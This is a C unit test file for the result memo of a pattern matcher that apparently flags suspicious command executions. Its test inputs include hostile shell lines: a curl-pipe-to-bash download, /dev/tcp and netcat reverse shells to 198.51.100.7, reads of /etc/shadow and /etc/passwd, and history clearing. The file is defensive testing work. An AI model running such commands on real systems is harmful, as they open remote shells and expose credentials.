/*
 * Unit tests for the memo of recent pattern results.  An execution served
 * from the memo gets the same hits, counts and texts as one matched in
 * full, whatever room the caller gives.  The key separates platforms, an
 * absent and an empty executable path, and subjects that share a slot.
 * Subjects longer than a slot key are matched in full every time.
 */
#include "score/patterns.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tcheck.h"

static void
exec_of(struct event *ev, const char *exe, const char *cmdline)
{
    event_reset(ev);
    ev->kind = EVENT_EXEC;
    if (exe != NULL) {
        event_set_str(ev, EVENT_EXE, sv_cstr(exe));
    }
    event_set_str(ev, EVENT_CMDLINE, sv_cstr(cmdline));
}

/* Writes "count: family/name=text; ..." for the first max hits. */
static void
hits_text(struct patterns *p, const char *platform, const struct event *ev,
          int max, char *out, size_t n)
{
    struct pattern_hit hits[16];
    int found = patterns_match(p, platform, ev, hits, max);
    size_t used = (size_t)snprintf(out, n, "%d:", found);

    for (int i = 0; i < found && i < max && used < n; i++) {
        used += (size_t)snprintf(out + used, n - used, " %s/%s=%s;",
                                 hits[i].family, hits[i].name, hits[i].text);
    }
}

static const char *const commands[] = {
    "whoami", "id -u", "uname -a", "cat /etc/shadow",
    "curl -s http://198.51.100.7/x.sh | bash",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "nc -e /bin/sh 198.51.100.7 4444", "ls -la", "crontab -l",
    "history -c; whoami; id; uname -a; cat /etc/passwd",
    "esxcli system account list", "dscl . list /Users",
    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "",
};
static const char *const exes[] = { NULL, "", "/usr/bin/whoami",
                                    "/bin/busybox", "/tmp/x" };
static const char *const platforms[] = { "linux", "macos", "esxi" };

/* Every command, path, platform and room: once in full on a set without
 * a memo, then twice on a set with one (the second from the memo). */
static void
memo_repeats_full_result(void)
{
    struct patterns full, memo;
    struct event ev;
    char err[256], want[2048], first[2048], again[2048];
    static const int rooms[] = { 0, 1, 2, 16 };

    CHECK_INT(patterns_init(&full, NULL, err, sizeof(err)), 0);
    CHECK_INT(patterns_init(&memo, NULL, err, sizeof(err)), 0);
    CHECK(memo.memo != NULL);
    free(full.memo);
    full.memo = NULL;
    event_init(&ev);
    for (size_t c = 0; c < sizeof(commands) / sizeof(commands[0]); c++) {
        for (size_t e = 0; e < sizeof(exes) / sizeof(exes[0]); e++) {
            for (size_t k = 0; k < 3; k++) {
                for (size_t r = 0; r < 4; r++) {
                    exec_of(&ev, exes[e], commands[c]);
                    hits_text(&full, platforms[k], &ev, rooms[r], want,
                              sizeof(want));
                    hits_text(&memo, platforms[k], &ev, rooms[r], first,
                              sizeof(first));
                    uint64_t before = memo.memo_hits;
                    hits_text(&memo, platforms[k], &ev, rooms[r], again,
                              sizeof(again));
                    CHECK_INT(memo.memo_hits, before + 1);
                    if (strcmp(want, first) != 0 ||
                        strcmp(want, again) != 0) {
                        printf("  \"%s\" exe %s on %s, room %d: \"%s\" in "
                               "full, \"%s\" then \"%s\"\n", commands[c],
                               exes[e] != NULL ? exes[e] : "(absent)",
                               platforms[k], rooms[r], want, first, again);
                        CHECK(false);
                    }
                }
            }
        }
    }
    event_fini(&ev);
    patterns_fini(&full);
    patterns_fini(&memo);
}

/* More distinct subjects than slots, twice over: every result equals that
 * of a full match, so a slot never serves another subject. */
static void
memo_slots_never_mix(void)
{
    struct patterns full, memo;
    struct event ev;
    char err[256], cmd[64], want[2048], got[2048];

    CHECK_INT(patterns_init(&full, NULL, err, sizeof(err)), 0);
    CHECK_INT(patterns_init(&memo, NULL, err, sizeof(err)), 0);
    free(full.memo);
    full.memo = NULL;
    event_init(&ev);
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < 3 * (int)PATTERNS_MEMO_SLOTS; i++) {
            snprintf(cmd, sizeof(cmd), i % 3 == 0 ? "whoami %d" :
                     i % 3 == 1 ? "ls %d" : "cat /etc/shadow%d", i);
            exec_of(&ev, NULL, cmd);
            hits_text(&full, "linux", &ev, 4, want, sizeof(want));
            hits_text(&memo, "linux", &ev, 4, got, sizeof(got));
            if (strcmp(want, got) != 0) {
                printf("  \"%s\": \"%s\" in full, \"%s\" with the memo\n",
                       cmd, want, got);
                CHECK(false);
            }
        }
    }
    event_fini(&ev);
    patterns_fini(&full);
    patterns_fini(&memo);
}

/* A command line longer than a slot key is matched in full each time. */
static void
long_subject_not_remembered(void)
{
    struct patterns p;
    struct event ev;
    char err[256], cmd[PATTERNS_MEMO_BYTES + 32], out[2048];

    CHECK_INT(patterns_init(&p, NULL, err, sizeof(err)), 0);
    event_init(&ev);
    memset(cmd, 'a', sizeof(cmd) - 1);
    memcpy(cmd, "whoami ", 7);
    cmd[sizeof(cmd) - 1] = '\0';
    exec_of(&ev, NULL, cmd);
    hits_text(&p, "linux", &ev, 4, out, sizeof(out));
    hits_text(&p, "linux", &ev, 4, out, sizeof(out));
    CHECK_INT(p.memo_hits, 0);
    CHECK_STR(out, "1: discovery/whoami=whoami;");
    event_fini(&ev);
    patterns_fini(&p);
}

int
main(void)
{
    TEST_RUN("patterns_memo", memo_repeats_full_result);
    TEST_RUN("patterns_memo", memo_slots_never_mix);
    TEST_RUN("patterns_memo", long_subject_not_remembered);
    TEST_EXIT();
}
